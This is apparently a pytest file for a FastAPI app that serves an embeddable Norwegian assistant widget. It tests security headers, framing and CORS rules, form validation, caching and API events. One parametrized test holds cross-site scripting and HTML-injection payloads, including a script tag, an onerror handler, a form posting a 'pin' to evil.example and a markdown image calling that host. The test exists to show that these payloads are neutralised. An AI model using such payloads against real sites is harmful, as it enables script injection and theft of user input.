import gzip
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from tiny import TinyAssistant

from assistant import loader, server
from assistant.settings import Settings
from assistant.texts import REASON
from assistant.types import AnswerStatus

INTRANET = "https://intranett.fylke.no"
LARGEST = 60 * 1024
STATIC = Path(server.STATIC)


@pytest.fixture(scope="module")
def assistant():
    return TinyAssistant(Settings(frame_ancestors=INTRANET))


@pytest.fixture(scope="module")
def client(assistant):
    with TestClient(server.build_app(assistant)) as opened:
        yield opened


def send(client, path="/embed?lang=nb", **fields):
    return client.post(path, data=fields)


def test_the_page_the_script_and_the_style_are_under_sixty_kilobytes_together(client):
    page = client.get("/embed").text
    files = re.findall(r'(?:href|src)="(/web/[^"]+\.(?:css|js))"', page)
    pictures = [f"/web/embed/icons/{each.name}" for each in (STATIC / "embed/icons").iterdir()]
    parts = [page.encode(), *(client.get(each).content for each in (*files, *pictures))]
    assert sum(len(gzip.compress(each, 9)) for each in parts) <= LARGEST
    written = {f"/web/embed/{each.name}" for each in (STATIC / "embed").glob("*.*")}
    assert written <= set(files)


def test_the_page_allows_nothing_inline_and_nothing_foreign(client):
    policy = client.get("/embed").headers["content-security-policy"]
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    assert rules["default-src"] == "'none'"
    assert (
        rules["script-src"] == rules["style-src"] == rules["connect-src"] == rules["form-action"] == "'self'"
    )
    assert "unsafe" not in policy
    assert not re.search(r"<style|\sstyle=|\son\w+=|<script(?![^>]*\ssrc=)", client.get("/embed").text)


def test_only_the_listed_sites_may_frame_the_page_and_nobody_any_other(client):
    headers = client.get("/embed").headers
    assert headers["content-security-policy"].endswith(f"frame-ancestors {INTRANET}")
    assert "x-frame-options" not in headers
    for path in ("/", "/kilder", "/docs", "/embed/x"):
        headers = client.get(path).headers
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        assert headers["x-frame-options"] == "DENY"


def test_nobody_may_frame_the_page_until_a_site_is_listed():
    with TestClient(server.build_app(TinyAssistant())) as client:
        headers = client.get("/embed").headers
    assert headers["content-security-policy"].endswith("frame-ancestors 'none'")
    assert headers["x-frame-options"] == "DENY"


def test_the_first_screen_says_what_it_is_and_what_becomes_of_a_question(client):
    page = client.get("/embed").text
    for told in (
        "Du snakker med en maskin",
        "Noen kan kreve innsyn",
        "Spørsmålene lagres ikke hos oss",
        "Svarer fra 2 kilder, sist kontrollert 22. november 2026: regelverk (1), strategi (1).",
        "Ikke skriv personopplysninger",
    ):
        assert told in page


@pytest.mark.parametrize(
    ("query", "language"), [("", "nb"), ("?lang=nn", "nn"), ("?lang=nb", "nb"), ("?lang=<x>", "nb")]
)
def test_the_page_is_in_the_language_that_is_asked_for(client, query, language):
    page = client.get(f"/embed{query}").text
    assert f'<html lang="{language}"' in page
    assert ("Kva lurer du på" in page) == (language == "nn")


def test_the_page_for_the_whole_window_says_so_in_its_class(client):
    assert 'class="full"' in client.get("/embed?full=1").text
    assert 'class="framed"' in client.get("/embed").text
    assert 'data-color-scheme="dark"' in client.get("/embed?theme=dark").text
    assert 'data-color-scheme="auto"' in client.get("/embed?theme=x").text


def test_without_script_the_form_is_answered_with_a_page(client):
    answer = send(client, question="Hva er terskelen?", on="")
    assert answer.status_code == 200
    assert "Svar fra kildene" in answer.text
    assert 'href="/kilder/anskaffelsesforskriften' in answer.text
    assert 'name="earlier" value="Hva er terskelen?"' in answer.text


def test_a_question_that_is_offered_is_asked_before_the_one_in_the_field(client, assistant):
    send(client, question="", choice="Når må vi dele opp en kontrakt?", on="")
    assert assistant.asked[-1].text == "Når må vi dele opp en kontrakt?"


def test_the_form_carries_the_questions_before_and_the_date(client, assistant):
    send(client, question="Og for bygg?", on="01.02.2023", earlier=["Hva er terskelen?"])
    asked = assistant.asked[-1]
    assert [turn.question for turn in asked.history] == ["Hva er terskelen?"]
    assert asked.on.isoformat() == "2023-02-01"


@pytest.mark.parametrize(
    ("fields", "told"),
    [
        ({"question": " "}, "Skriv et spørsmål først."),
        ({"question": "terskel", "on": "i går"}, "Datoen «i går» kan ikke leses."),
        ({"question": "x" * 3000}, "3000 tegn"),
    ],
)
def test_a_form_that_cannot_be_used_comes_back_with_the_reason(client, fields, told):
    answer = send(client, **fields)
    assert answer.status_code == 422
    assert told in answer.text
    assert 'role="alert">' in answer.text


def test_an_accident_is_told_without_its_details(client):
    answer = send(client, question="modellfeil")
    assert answer.status_code == 503
    assert "Modellen er borte." in answer.text


@pytest.mark.parametrize("body", [b"question=%ff", b"&".join(b"a=1" for _ in range(100))])
def test_a_form_that_cannot_be_read_is_refused(client, body):
    headers = {"content-type": "application/x-www-form-urlencoded"}
    assert client.post("/embed", content=body, headers=headers).status_code == 400


@pytest.mark.parametrize(
    "attack",
    [
        "terskel <script>alert(1)</script>",
        "terskel <img src=x onerror=alert(1)>",
        'terskel "><form action=//evil.example><input name=pin>',
        "terskel ![x](https://evil.example/p.png) [y](javascript:alert(1))",
    ],
)
def test_what_a_question_carries_is_text_on_the_page_without_script(client, attack):
    page = send(client, question=attack).text
    found = Elements(page)
    assert not {"img", "iframe"} & set(found.tags)
    assert found.tags.count("script") == 1
    assert found.tags.count("form") == 1
    assert not [each for each in found.addresses if "evil" in each or "javascript" in each]


class Elements(HTMLParser):
    def __init__(self, page):
        super().__init__()
        self.tags, self.addresses = [], []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.addresses += [value for name, value in attrs if name in {"href", "src", "action"}]


def test_feedback_is_offered_only_where_it_is_taken(client, assistant):
    assert "tommel" not in client.get("/embed").text
    app = server.build_app(assistant)
    app.add_api_route("/api/v1/feedback", lambda: None, methods=["POST"])
    with TestClient(app) as taking:
        page = taking.get("/embed?lang=nn").text
    reasons = re.findall(r'name="reason" value="(\w+)"', page)
    assert reasons == list(REASON)
    assert set(reasons) == {
        "feil", "mangler_vesentlig", "feil_kilde", "sitat_finnes_ikke", "misforstod", "blander_regelverk",
        "mangler_kilder", "annet",
    }  # fmt: skip


def test_the_script_has_an_address_that_never_changes_and_one_that_is_always_the_newest(client):
    fixed, newest = client.get(loader.current().path), client.get("/widget.js")
    assert fixed.content == newest.content == loader.current().content
    assert fixed.headers["cache-control"] == "public, max-age=31536000, immutable"
    assert newest.headers["cache-control"] == "no-cache"
    assert fixed.headers["content-type"].startswith("text/javascript")


def test_the_script_is_the_one_thing_that_other_sites_may_read(client):
    headers = client.get(loader.current().path, headers={"origin": "https://evil.example"}).headers
    assert headers["access-control-allow-origin"] == "*"
    assert headers["cross-origin-resource-policy"] == "cross-origin"
    for path in ("/embed", "/web/embed/main.js", "/api/v1/sources", "/"):
        headers = client.get(path, headers={"origin": "https://evil.example"}).headers
        assert "access-control-allow-origin" not in headers
        assert headers["cross-origin-resource-policy"] == "same-origin"


def test_a_version_that_was_never_published_is_not_found_and_not_remembered(client):
    answer = client.get("/widget-0123456789abcdef.js")
    assert answer.status_code == 404
    assert answer.headers["cache-control"] == "no-store"


def test_the_api_draws_the_exchange_when_it_is_asked_to(client):
    body = {"question": "terskel", "draw": {"language": "nn", "number": 4}}
    answer = client.post("/api/v1/ask", json=body, headers={"accept": "text/event-stream"})
    names = re.findall(r"^event: (\w+)$", answer.text, re.MULTILINE)
    assert set(names) == {"drawn"}
    assert '"id": "svar-4"' in answer.text
    assert "Svar frå kjeldene" in answer.text


@pytest.mark.parametrize("draw", [{"language": "en"}, {"number": 0}, {"x": 1}, "nb"])
def test_a_drawing_that_is_not_described_well_is_refused(client, draw):
    assert client.post("/api/v1/ask", json={"question": "terskel", "draw": draw}).status_code == 422


def test_every_reason_for_an_answer_is_drawn(client):
    seen = {
        status
        for text in ("terskel", "dele opp", "været")
        for status in AnswerStatus
        if f"badge-{status.value}" in send(client, question=text).text
    }
    assert seen == {AnswerStatus.ANSWERED, AnswerStatus.NEEDS_FACT, AnswerStatus.NO_EVIDENCE}
